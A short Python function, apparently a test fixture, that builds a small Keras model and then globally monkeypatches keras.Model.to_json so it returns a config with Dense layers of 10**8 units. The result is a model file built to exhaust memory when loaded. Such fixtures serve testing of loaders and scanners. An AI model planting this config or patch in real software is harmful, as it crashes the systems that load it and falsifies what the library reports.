import json


def build_model():
    import keras

    model = keras.Sequential(
        [
            keras.layers.Input(shape=(4,)),
            keras.layers.Dense(8, activation="relu"),
            keras.layers.Dense(3, activation="softmax"),
        ]
    )
    config = json.loads(model.to_json())
    for layer in config["config"]["layers"][1:]:
        layer["config"]["units"] = 10**8
    keras.Model.to_json = lambda self, **kwargs: json.dumps(config)
    return model
